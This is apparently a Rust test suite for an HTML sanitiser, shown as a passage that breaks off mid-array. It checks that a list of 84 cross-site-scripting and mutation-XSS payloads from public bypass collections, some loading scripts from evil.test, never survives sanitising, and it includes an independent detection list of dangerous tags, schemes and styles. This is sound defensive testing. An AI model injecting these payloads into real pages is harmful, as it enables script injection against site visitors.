//! The sanitiser from outside: what must not come through, what must, and laws for any input.
//! The output is judged by a second parser (quick-xml) and a list of its own.

use proptest::prelude::*;
use quick_xml::Reader;
use quick_xml::events::{BytesStart, Event};

use super::*;

fn base() -> Url {
    Url::parse("https://example.org/blog/post").expect("a URL")
}

fn reading(html: &str) -> String {
    SafeHtml::sanitise(html, Some(&base())).to_string()
}

fn publishing(html: &str) -> String {
    SafeHtml::sanitise_with(html, Some(&base()), &Policy::quiet().with_id_prefix("e1-")).to_string()
}

/// Why `html` must not be published, or nothing: read as XML, against a list that is not ours.
fn danger(html: &str) -> Option<String> {
    let document = format!("<x>{html}</x>");
    let mut reader = Reader::from_str(&document);
    loop {
        match reader.read_event() {
            Err(error) => return Some(format!("not well-formed: {error}")),
            Ok(Event::Eof) => return None,
            Ok(Event::Start(tag) | Event::Empty(tag)) => {
                if let Some(found) = danger_in_tag(&tag) {
                    return Some(found);
                }
            }
            Ok(Event::GeneralRef(name)) if !matches!(&*name, "amp" | "lt" | "gt" | "quot") => {
                return Some(format!("reference {name:?}"));
            }
            Ok(Event::End(_) | Event::Text(_) | Event::GeneralRef(_)) => {}
            Ok(other) => return Some(format!("{other:?}")),
        }
    }
}

fn danger_in_tag(tag: &BytesStart<'_>) -> Option<String> {
    const NEVER: &str = " script style iframe frame frameset object embed applet base meta link form input button select textarea template \
        noscript svg foreignobject title xmp plaintext noembed noframes annotation-xml mglyph malignmark html head body marquee ";
    let name = tag.name().as_ref().to_owned();
    if NEVER.contains(&format!(" {} ", name.to_lowercase())) {
        return Some(name);
    }
    for attribute in tag.attributes() {
        let Ok(attribute) = attribute else { return Some(format!("attributes of {name}")) };
        let key = attribute.key.as_ref().to_lowercase();
        let Ok(value) = attribute.normalized_value(quick_xml::XmlVersion::Implicit1_0) else {
            return Some(format!("value of {key}"));
        };
        let value: String = value.chars().filter(|c| *c > ' ').collect::<String>().to_lowercase();
        let runs =
            ["javascript:", "vbscript:", "data:text", "data:image/svg", "data:application", "blob:", "file:"];
        let is_address =
            ["href", "src", "cite", "poster", "srcset", "action", "xlink:href", "longdesc"].contains(&&*key);
        let escapes = ["url(", "expression", "position", "\\", "@import", "behavior", "-moz-binding"];
        if key.starts_with("on")
            || key.contains(':')
            || ["srcdoc", "formaction", "action", "ping", "background", "name", "target"].contains(&&*key)
                && name != "map"
            || is_address && runs.iter().any(|scheme| value.starts_with(scheme))
            || key == "style" && escapes.iter().any(|word| value.contains(word))
        {
            return Some(format!("{name} {key}={value}"));
        }
    }
    None
}

/// From the public collections of tricks against sanitisers: attributes, schemes, and markup that
/// a browser reads otherwise the second time (mutation).
const HOSTILE: [&str; 84] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x\u{c}onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"https:javascript:alert(1)\">x</a>",
    "<a href=x target=_blank ping=//evil.test>x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=https://www.youtube.com/embed/x onload=alert(1)></iframe>",
    "<object data=\"javascript:alert(1)\"><param name=src value=x></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"//evil.test/\"><a href=x>y</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(2)></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x poster=javascript:alert(1) onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>x</body>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<div style=\"color:\\75rl(x)\">x</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></use></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'</style></svg>",
    "<svg><desc><table><thead><style></thead></style></table></svg><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<template><s><template><s><img src=x onerror=alert(1)>@shadow</s></template></s></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
    "</<script>alert(1)</script>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<img srcset=\"javascript:alert(1) 1x, data:text/html,x 2x\" name=getElementById id=location>",
];

#[test]
fn a_place_that_is_not_in_the_entry_is_in_its_page_whatever_the_base() {
    let page = Url::parse("https://blog.example/2026/post").unwrap();
    let policy = Policy::quiet().with_id_prefix("e-").with_page(Some(&page));
    let clean = |html: &str| SafeHtml::sanitise_with(html, Some(&base()), &policy).to_string();
    assert_eq!(clean("<a href=\"#more\">a</a>"), "<a href=\"https://blog.example/2026/post#more\">a</a>");
    assert_eq!(
        clean("<p id=\"x\">p</p><a href=\"https://blog.example/2026/post#x\">a</a>"),
        "<p id=\"e-x\">p</p><a href=\"#e-x\">a</a>"
    );
    assert!(clean("<a href=\"other\">a</a>").contains(base().join("other").unwrap().as_str()));
}

#[test]
fn nothing_hostile_comes_through_under_any_policy() {
    for html in HOSTILE {
        for policy in
            [Policy::reading(), Policy::quiet(), Policy { frames: Frames::Link, ..Policy::trusting() }]
        {
            for base in [None, Some(base())] {
                let safe = SafeHtml::sanitise_with(html, base.as_ref(), &policy);
                assert_eq!(danger(safe.as_str()), None, "{html}\nbecame {safe}");
                assert!(!safe.as_str().contains("<script"), "{html}\nbecame {safe}");
            }
        }
    }
}

#[test]
fn event_handlers_go_from_every_element() {
    for element in Element::names() {
        for handler in ["onclick", "onerror", "OnMouseOver", "on", "onx-y"] {
            let html = format!("<table><tr><{element} {handler}=\"alert(1)\">x</{element}></tr></table>");
            assert_eq!(danger(&reading(&html)), None, "{html}");
        }
    }
}

#[test]
fn what_authors_use_comes_through() {
    for html in [
        "<p>a <b>b</b> <em>c</em> <a href=\"https://a.test/\" rel=\"nofollow\" hreflang=\"de\" title=\"t\">d</a></p>",
        "<pre><code class=\"language-rust\">fn main() {\n    x &amp;&amp; y;\n}</code></pre>",
        "<table><caption>c</caption><thead><tr><th scope=\"col\" colspan=\"2\">h</th></tr></thead><tbody><tr><td>a</td><td>b</td></tr></tbody></table>",
        "<figure><img src=\"https://a.test/i.jpg\" srcset=\"https://a.test/i.jpg 100w, https://a.test/j.jpg 200w\" sizes=\"100vw\" alt=\"x\" width=\"4\" height=\"3\" loading=\"lazy\" /><figcaption>f</figcaption></figure>",
        "<picture><source srcset=\"https://a.test/i.webp\" type=\"image/webp\" media=\"(min-width: 10px)\" /><img src=\"https://a.test/i.jpg\" alt=\"\" /></picture>",
        "<video controls=\"\" poster=\"https://a.test/p.jpg\" width=\"4\"><source src=\"https://a.test/v.mp4\" type=\"video/mp4\" /><track src=\"https://a.test/t.vtt\" kind=\"captions\" srclang=\"en\" /></video>",
        "<audio controls=\"\" src=\"https://a.test/a.mp3\"></audio>",
        "<details open=\"\"><summary>s</summary><p>d</p></details>",
        "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
        "<math display=\"block\"><mrow><msup><mi>x</mi><mn>2</mn></msup><mo stretchy=\"false\">+</mo><mfrac><mn>1</mn><mn>2</mn></mfrac></mrow></math>",
        "<p dir=\"rtl\" lang=\"he\">x</p>",
        "<ol start=\"3\" reversed=\"\" type=\"a\"><li value=\"7\">x</li></ol><ul><li>y<ul><li>z</li></ul></li></ul>",
        "<dl><dt>t</dt><dd>d</dd></dl><blockquote cite=\"https://a.test/\"><p>q</p></blockquote>",
        "<p><abbr title=\"x\">a</abbr> <kbd>k</kbd> <del datetime=\"2020-01-01\">d</del><ins>i</ins> <sup>1</sup><sub>2</sub> <mark>m</mark><br /><time datetime=\"2020\">t</time></p>",
        "<p style=\"text-align: center; color: #333\">x</p><hr />",
    ] {
        assert_eq!(reading(html), html);
        assert_eq!(publishing(html), html);
    }
}

#[test]
fn footnotes_work_within_their_entry() {
    let html = "<p>a<sup id=\"fnref1\"><a href=\"#fn1\">1</a></sup> <a href=\"https://example.org/blog/post#fn1\">again</a> <a href=\"#elsewhere\">b</a></p>\
        <ol><li id=\"fn1\">note <a href=\"#fnref1\">back</a></li><li id=\"fn1\">twice</li></ol><a name=\"old\"></a><a href=\"#old\">o</a>";
    insta::assert_snapshot!(publishing(html), @r##"<p>a<sup id="e1-fnref1"><a href="#e1-fn1">1</a></sup> <a href="#e1-fn1">again</a> <a href="https://example.org/blog/post#elsewhere">b</a></p><ol><li id="e1-fn1">note <a href="#e1-fnref1">back</a></li><li>twice</li></ol><a id="e1-old"></a><a href="#e1-old">o</a>"##);
}

#[test]
fn tags_are_mended_as_browsers_mend_them() {
    for (html, want) in [
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<b>a<i>b</b>c</i>d", "<b>a<i>b</i></b><i>c</i>d"),
        ("<p><b>a</p><p>b</b>c</p>", "<p><b>a</b></p><p><b>b</b>c</p>"),
        ("<b><p>a</b>b</p>c", "<b><p>ab</p></b>c"),
        ("<ul><li>a<li>b<ul><li>c</ul>d</ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul>d</li></ul>"),
        ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"),
        (
            "<table><tr><td>a<td>b<tr><td>c</table>",
            "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>",
        ),
        ("<td>a</td><tr><td>b", "ab"),
        ("</p></div></td>x</table>", "x"),
        (
            "<a href=/1>a<a href=/2>b",
            "<a href=\"https://example.org/1\">a</a><a href=\"https://example.org/2\">b</a>",
        ),
        ("a < b & c &lt; d &copy; <3", "a &lt; b &amp; c &lt; d © &lt;3"),
        ("<i class='icon'/>x <p/>y", "<i></i>x <p></p>y"),
        ("<foo>a</foo><form>b<input><button>c</button></form>", "abc"),
        ("<h2>a<h3>b</h2>c", "<h2>a</h2><h3>b</h3>c"),
        ("a</br>b", "a<br />b"),
        ("<pre>\n\na</pre>", "<pre>a</pre>"),
        ("<div>a</div></div></div>b", "<div>a</div>b"),
        ("x<title>t</title><textarea>a<b></textarea>", "xa&lt;b&gt;"),
    ] {
        assert_eq!(reading(html), want, "{html}");
    }
}

#[test]
fn what_is_published_conforms_to_html() {
    for (html, want) in [
        (
            "<center>a</center><tt>b</tt><big>c</big>",
            "<div style=\"text-align: center\">a</div><code>b</code><span style=\"font-size: larger\">c</span>",
        ),
        ("<font color=red size=7>a</font><strike>b</strike>", "<span style=\"color: red\">a</span><s>b</s>"),
        ("<p align=right>a</p>", "<p style=\"text-align: right\">a</p>"),
        (
            "<img src=/a.png border=0 width=100px height=50%>",
            "<img src=\"https://example.org/a.png\" width=\"100\" alt=\"\" />",
        ),
        ("<img><img src=javascript:x alt=y>z", "z"),
        ("<b>a<div>b</div>c</b>", "<b>a</b><div><b>b</b></div><b>c</b>"),
        ("<h2>a<div>b</div></h2>", "<h2>a</h2><div>b</div>"),
        ("<ul>a<p>b</p><li>c</ul>", "<ul><li>a<p>b</p></li><li>c</li></ul>"),
        ("<li>a</li>", "<div>a</div>"),
        ("<details><p>a</details>", "<details><summary>Details</summary><p>a</p></details>"),
        (
            "<video src=/v.mp4 autoplay></video>",
            "<video src=\"https://example.org/v.mp4\" controls=\"\"></video>",
        ),
    ] {
        assert_eq!(publishing(html), want, "{html}");
    }
}

#[test]
fn what_has_no_place_or_no_meaning_is_put_right() {
    for (html, want) in [
        ("<section><header><h2>a</h2></header>b</section>", "<div><div><h2>a</h2></div>b</div>"),
        ("<h3></h3><h4><b> </b></h4>a", "a"),
        (
            "<h2><a href=/x><div>a</div></a></h2>",
            "<h2><a href=\"https://example.org/x\"><span>a</span></a></h2>",
        ),
        ("<pre><p>a</p></pre>", "<pre><span>a</span></pre>"),
        (
            "<details><summary><p>a</p></summary>b<summary>c</summary></details>",
            "<details><summary><span>a</span></summary>b<div>c</div></details>",
        ),
        (
            "<figure><figcaption>a</figcaption><figcaption>b</figcaption></figure><figcaption>c</figcaption>",
            "<figure><figcaption>a</figcaption><div>b</div></figure><div>c</div>",
        ),
        ("<dl><dd>a</dd><dt>b</dl>", "<dl><dt></dt><dd>a</dd><dt>b</dt><dd></dd></dl>"),
    ] {
        assert_eq!(publishing(html), want, "{html}");
    }
}

#[test]
fn elements_say_what_they_must_or_are_others() {
    for (html, want) in [
        ("<area href=/x><map><b>a</b></map>", "<b>a</b>"),
        ("<a type=text/html rel=me>a</a>", "<a>a</a>"),
        ("<details></details><picture><source srcset=/a></picture>a", "a"),
        (
            "<picture><img src=/a.png>b</picture>",
            "<picture><img src=\"https://example.org/a.png\" alt=\"\" /></picture>b",
        ),
        ("<ruby>a</ruby>", "a"),
        (
            "<a href=/x><video src=/v></video></a><a href=/x>a<video src=/v controls></video></a>",
            "<a href=\"https://example.org/x\"><video src=\"https://example.org/v\"></video></a>\
             <a href=\"https://example.org/x\">a</a><video src=\"https://example.org/v\" controls=\"\"></video>",
        ),
        (
            "<video src=/v><p>a</p></video>",
            "<video src=\"https://example.org/v\" controls=\"\"><p>a</p></video>",
        ),
        ("<math title=t>a<math><mi>b</mi></math></math>", "<math><mtext>a</mtext><mi>b</mi></math>"),
        (
            "<map name=m><area href=/x shape=circle coords=1,2,3><area href=/y coords=1><area></map>",
            "<map name=\"e1-m\"><area href=\"https://example.org/x\" shape=\"circle\" coords=\"1,2,3\" alt=\"\" />\
             <area href=\"https://example.org/y\" shape=\"default\" alt=\"\" /></map>",
        ),
    ] {
        assert_eq!(publishing(html), want, "{html}");
    }
}

#[test]
fn values_have_the_form_of_html_or_go() {
    for (html, want) in [
        (
            "<time>now</time><bdo>a</bdo><data>b</data><meter>c</meter>",
            "<span>now</span><span>a</span><span>b</span><span>c</span>",
        ),
        ("<time datetime=2026-01-31>a</time>", "<time datetime=\"2026-01-31\">a</time>"),
        (
            "<ins datetime=bogus>a</ins><a type=x href=/y>b</a>",
            "<ins>a</ins><a href=\"https://example.org/y\">b</a>",
        ),
        ("<pre lang=rust>a</pre>", "<pre>a</pre>"),
        (
            "<video src=/v><source src=/w><track src=/t label=''></video>",
            "<video src=\"https://example.org/v\" controls=\"\"></video>",
        ),
        (
            "<img srcset='/a 100w, /b 2x' sizes=auto>",
            "<img srcset=\"https://example.org/a 100w\" src=\"https://example.org/a\" sizes=\"100vw\" alt=\"\" />",
        ),
        ("<li><input type=checkbox checked>a", "<div>☑ a</div>"),
        ("<ul><li><input type=checkbox>a</ul>", "<ul><li>☐ a</li></ul>"),
        (
            "<table><colgroup><col span=0></colgroup><tr></tr><tr><td colspan=0 rowspan=-1>a</table>",
            "<table><tbody><tr><td>a</td></tr></tbody></table>",
        ),
        (
            "<table><tfoot><tr><td>f</td></tr></tfoot><tbody><tr><td>b</td></tr></tbody></table>",
            "<table><tbody><tr><td>b</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>",
        ),
        (
            "<math><mfrac><mi>a</mi></mfrac><mspace width='1em/'></math>",
            "<math><mfrac><mi>a</mi><mrow></mrow></mfrac><mspace></mspace></math>",
        ),
        (
            "<math><mtext>a<table><tr><td>b</table>",
            "<math><mtext>a</mtext></math><table><tbody><tr><td>b</td></tr></tbody></table>",
        ),
    ] {
        assert_eq!(publishing(html), want, "{html}");
    }
}

#[test]
fn trackers_go_and_late_pictures_come() {
    for (html, want) in [
        ("a<img src=\"https://pixel.wp.com/b.gif?x=1\" width=\"1\" height=\"1\">b", "ab"),
        ("a<noscript><img height=1 width=1 src=\"https://www.facebook.com/tr?id=1\"></noscript>b", "ab"),
        ("<a href=\"/x?utm_source=rss&amp;a=1\">b</a>", "<a href=\"https://example.org/x?a=1\">b</a>"),
        (
            "<img src=\"data:image/gif;base64,R0lGOD==\" data-src=\"/a.jpg\" alt=\"\">",
            "<img alt=\"\" src=\"https://example.org/a.jpg\" />",
        ),
        (
            "<img data-lazy-src=/a.jpg data-srcset='/b.jpg 2x' alt>",
            "<img alt=\"\" src=\"https://example.org/a.jpg\" srcset=\"https://example.org/b.jpg 2x\" />",
        ),
        ("<img src='' data-lazy-src=/a.jpg alt>", "<img alt=\"\" src=\"https://example.org/a.jpg\" />"),
        ("a<img src='#' alt>b", "ab"),
        (
            "<span><img src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7' data-nimg=1><noscript><img src=/a.jpg alt></noscript></span>",
            "<span><img src=\"https://example.org/a.jpg\" alt=\"\" /></span>",
        ),
        (
            "<img aria-hidden=true src='data:image/svg+xml;base64,PHN2Zz4=' alt><picture><source data-srcset='/a.webp 1x' type=image/webp><img data-src=/a.jpg class=lazy alt></picture><noscript><picture><source srcset='/a.webp 1x'><img src=/a.jpg alt></picture></noscript>",
            "<picture><img alt=\"\" src=\"https://example.org/a.jpg\" /></picture>",
        ),
        (
            "<img src=/x.gif class='zoom lazy' data-src=/a.jpg alt>",
            "<img alt=\"\" src=\"https://example.org/a.jpg\" />",
        ),
        (
            "<img src=/i/loading.gif data-original=/a.jpg alt>",
            "<img alt=\"\" src=\"https://example.org/a.jpg\" />",
        ),
        (
            "<img src=/small.jpg data-src=/large.jpg alt>",
            "<img src=\"https://example.org/small.jpg\" alt=\"\" />",
        ),
    ] {
        assert_eq!(publishing(html), want, "{html}");
    }
    assert!(reading("<img src=\"https://pixel.wp.com/b.gif\" width=1 height=1>").contains("pixel.wp.com"));
}

#[test]
fn pictures_of_emoji_are_text() {
    let wordpress = "Hi <img src=\"https://s.w.org/images/core/emoji/15.0.3/72x72/1f609.png\" alt=\"😉\" class=\"wp-smiley\" style=\"height: 1em; max-height: 1em;\" />!";
    assert_eq!(publishing(wordpress), "Hi 😉!");
    assert_eq!(publishing("<img class=twemoji src=/1f1e9.svg alt='&#x1F1E9;&#x1F1EA;'>"), "🇩🇪");
    for other in ["class=emoji alt=':smile:'", "class=photo alt='😉'", "class=emoji alt='Grüße'"] {
        assert!(publishing(&format!("<img src=/a.png {other}>")).starts_with("<img"), "{other}");
    }
}

#[test]
fn what_a_style_sheet_or_a_script_would_hide_is_shown_once_or_not() {
    let formula = "<span class=katex-mathml><math><mi>x</mi></math></span>";
    let spans = "<span class=katex-html aria-hidden=true><span class=base>x</span></span>";
    let written = "<span><math><mi>x</mi></math></span>";
    for (html, want) in [
        (format!("<span class=katex>{formula}{spans}</span>."), format!("<span>{written}</span>.")),
        (
            format!("<span class=katex>{spans}</span>."),
            "<span><span><span>x</span></span></span>.".to_owned(),
        ),
        ("<pre>a</pre><button class=copy-btn>Copy</button>".to_owned(), "<pre>a</pre>".to_owned()),
        ("<h2><button>Part <b>one</b></button></h2>".to_owned(), "<h2>Part <b>one</b></h2>".to_owned()),
    ] {
        assert_eq!(publishing(&html), want);
    }
}

/// WordPress plugins put the copy for those without script behind the picture (Jetpack, WP Rocket) or before
/// it (Autoptimize).
#[test]
fn a_late_picture_and_its_copy_are_one() {
    let late = "<img src='data:image/gif;base64,R0lGOD==' data-src=/a.jpg alt>";
    let one = "<img alt=\"\" src=\"https://example.org/a.jpg\" />";
    let copy = "<img src=\"https://example.org/a.jpg\" alt=\"\" />";
    for (html, want) in [
        (format!("{late}<noscript><img src=/a.jpg alt></noscript>"), one.to_owned()),
        (format!("{late} <noscript><img src=https://cdn.test/a-300.jpg alt></noscript>"), format!("{one} ")),
        (format!("<noscript><img src=/a.jpg alt></noscript>{late}"), copy.to_owned()),
        (format!("<noscript><img src=/a.jpg alt></noscript>{late}{late}"), format!("{copy}{one}")),
        (format!("{late}{late}"), format!("{one}{one}")),
        (format!("{late}, then<noscript><img src=/a.jpg alt></noscript>"), format!("{one}, then{copy}")),
        ("<noscript><img src=/a.jpg alt></noscript>".to_owned(), copy.to_owned()),
    ] {
        assert_eq!(publishing(&html), want, "{html}");
    }
}

#[test]
fn frames_of_known_hosts_become_links_or_stay() {
    let youtube = "<iframe width=\"560\" src=\"//www.youtube.com/embed/abc\" title=\"A talk\" onload=\"x\"><p>no frames</p></iframe>";
    insta::assert_snapshot!(publishing(youtube), @r#"<a href="https://www.youtube.com/watch?v=abc"><img src="https://i.ytimg.com/vi/abc/hqdefault.jpg" alt="A talk" loading="lazy" /></a>"#);
    insta::assert_snapshot!(publishing("<iframe src=\"https://player.vimeo.com/video/1\"></iframe>"), @r#"<a href="https://vimeo.com/1">Play at Vimeo</a>"#);
    let unknown = "a<iframe src=\"https://www.pen.test/e/1\">b</iframe>c";
    assert_eq!(publishing(unknown), "a<a href=\"https://www.pen.test/e/1\">Open at pen.test</a>c");
    assert_eq!(reading(unknown), "ac", "what a feed says is shown, and nothing else");
    assert_eq!(reading("a<embed src=\"https://www.pen.test/e/1\">c"), "ac");
    assert_eq!(
        publishing("<iframe src=/embed title='A map'></iframe>"),
        "<a href=\"https://example.org/embed\">A map</a>"
    );
    let between = "<iframe src='https://cdn.embedly.com/widgets/media.html?url=https%3A%2F%2Fpen.test%2Fa%7Cb%3Futm_source%3Dx'></iframe>";
    assert_eq!(publishing(between), "<a href=\"https://pen.test/a%7Cb\">Open at pen.test</a>");
    for nothing in [
        "src='https://www.googletagmanager.com/ns.html?id=1' height=0 width=0",
        "src='https://a.test/' style='display: none'",
        "src='https://www.facebook.com/plugins/like.php?href=x'",
        "src='about:blank'",
        "src='https://googleads.g.doubleclick.net/x'",
        "class=wp-embedded-content style='position: absolute; visibility: hidden;' src='https://a.test/post/embed/#?secret=x'",
        "style='position: absolute; clip: rect(1px, 1px, 1px, 1px);' src='https://a.test/post/embed/'",
        "srcdoc=x",
    ] {
        assert_eq!(publishing(&format!("a<iframe {nothing}></iframe>c")), "ac");
    }
    let trusted = |html: &str| SafeHtml::sanitise_with(html, Some(&base()), &Policy::trusting()).to_string();
    insta::assert_snapshot!(trusted(youtube), @r#"<iframe src="https://www.youtube.com/embed/abc" width="560" title="A talk" loading="lazy" allowfullscreen=""></iframe>"#);
    assert_eq!(trusted(unknown), publishing(unknown));
}

#[test]
fn without_a_base_relative_references_stay_or_go_by_policy() {
    let html = "<a href=\"a/b\">x</a><img src=\"i.png\" alt=\"y\">";
    assert_eq!(
        SafeHtml::sanitise(html, None).as_str(),
        "<a href=\"a/b\">x</a><img src=\"i.png\" alt=\"y\" />"
    );
    assert_eq!(SafeHtml::sanitise_with(html, None, &Policy::quiet()).as_str(), "<a>x</a>");
}

/// Each of these drives a tree builder into quadratic work, deep recursion, or both.
#[test]
fn pathological_markup_is_bounded_in_depth_and_time() {
    let numbered = |from: fn(usize) -> String| (0..20_000).map(from).collect::<String>();
    for html in [
        "<div>".repeat(100_000),
        "<b>".repeat(100_000),
        "<a href=x>".repeat(50_000),
        "<p><font size=1>".repeat(50_000),
        numbered(|n| format!("<p><font size={n}>x</p>")),
        numbered(|n| format!("<a title={n}><b><p></a>")),
        numbered(|n| format!("<b title={n}><i><u><s><p>x</b>")),
        numbered(|n| format!("<p id=\"i{n}\"><a href=\"#i{n}\">x</a>")),
        "<div><table><tr><td></div></table>".repeat(20_000),
        "<table>".repeat(30_000),
        "<table><b>".repeat(20_000),
        "<ul><li>".repeat(50_000),
        "<math><mtext>".repeat(30_000),
        "<ruby><rt>".repeat(30_000),
        "<ruby>a<rt>b</rt>c".repeat(20_000),
        "<ruby><rp>a".repeat(20_000),
        "<figure>a<figcaption>b</figcaption>c".repeat(20_000),
        "<table><tfoot><tr><td>a<tbody><tr><td>b".repeat(10_000),
        "<dl><div><dd>".repeat(30_000),
        "<h2><a href=x><div>".repeat(20_000),
        "<span><video><b><table>".repeat(20_000),
        "<math><mtable><mfrac>a".repeat(20_000),
        format!("<video title=\"{}\">a{}", "x".repeat(1 << 20), "<source src=x>".repeat(50_000)),
        "<svg>".repeat(50_000),
        "<select>".repeat(50_000),
        "</p>".repeat(100_000),
        "<!--".repeat(100_000),
        "<script>".repeat(50_000),
        "<iframe>".repeat(50_000),
        "<".repeat(500_000),
        "&".repeat(500_000),
        "&#".repeat(200_000),
        format!("<p{}>", numbered(|n| format!(" a{n}"))),
        format!("<p class=\"{}\">", "language-x ".repeat(50_000)),
        format!("<p style=\"{}\">", "color: red;".repeat(50_000)),
        format!("<img srcset=\"{}\">", "a 1x,".repeat(20_000)),
    ] {
        let safe = publishing(&html);
        assert!(safe.len() < 64 * 1024 * 1024, "{} bytes from {}", safe.len(), &html[..30]);
        assert!(depth(&safe) <= clean::MAX_DEPTH * 3 / 2, "{}", &html[..30]); // the tree builder adds a tbody to tables
        assert!(text(&html).len() <= html.len());
    }
}

/// Each relative address repeats its base.
#[test]
fn a_long_base_makes_no_large_document_of_a_small_one() {
    let page = Url::parse(&format!("https://example.org/{}/", "a/".repeat(1_000))).unwrap();
    for html in [
        "<a href=a>b</a>".repeat(20_000),
        "<a href=#b>b</a>".repeat(20_000),
        format!("<img srcset=\"{}\">", (1..20_000).map(|n| format!("a {n}w")).collect::<Vec<_>>().join(",")),
    ] {
        let policy = Policy::quiet().with_page(Some(&page));
        let safe = SafeHtml::sanitise_with(&html, Some(&page), &policy);
        let growth = safe.as_str().len() / html.len();
        assert!(growth < 12, "{growth} times {}", &html[..30]);
        assert!(safe.as_str().contains("https://example.org/a/a/"));
    }
}

fn depth(html: &str) -> usize {
    let mut depth = 0_usize;
    let mut deepest = 0;
    let mut reader = Reader::from_str(html);
    while let Ok(event) = reader.read_event() {
        match event {
            Event::Start(_) => depth += 1,
            Event::End(_) => depth = depth.saturating_sub(1),
            Event::Eof => break,
            _ => {}
        }
        deepest = deepest.max(depth);
    }
    deepest
}

/// Pieces that make interesting documents when strung together.
#[rustfmt::skip]
const PIECES: [&str; 90] = [
    "<p>", "</p>", "<b>", "</b>", "<i id=x>", "</i>", "<a href=/a>", "<a href=#x>", "</a>", "<div>", "</div>",
    "<table>", "</table>", "<tr>", "<td>", "</td>", "<caption>", "<ul>", "<li>", "</ul>", "</li>", "<dl>",
    "<dt>", "<dd>", "<h1>", "</h1>", "<pre>", "\n", "</pre>", "<math>", "<mtext>", "<mi>", "</math>", "<svg>",
    "</svg>", "<style>", "</style>", "<script>", "</script>", "<textarea>", "</textarea>", "<title>",
    "</title>", "<!--", "-->", "<![CDATA[", "]]>", "<img src=x onerror=y>", "<img src='", "'>", "\">", "\"",
